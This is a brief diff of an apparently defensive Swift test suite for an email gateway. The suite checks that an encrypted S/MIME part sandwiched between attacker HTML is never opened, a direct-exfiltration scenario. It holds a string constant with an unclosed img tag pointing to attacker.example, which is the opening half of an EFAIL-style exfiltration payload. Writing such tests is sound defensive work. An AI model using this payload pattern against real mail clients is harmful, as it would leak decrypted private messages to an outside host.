@@ -2,6 +2,8 @@ import MIME
 import SMIME
 import Testing
 
+@testable import Gateway
+
 @Suite("A1.1, A-33 direct exfiltration: an encrypted part between an attacker's HTML is never opened")
 struct GateA1x1DirectExfiltration {
     private static let open = "Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n"
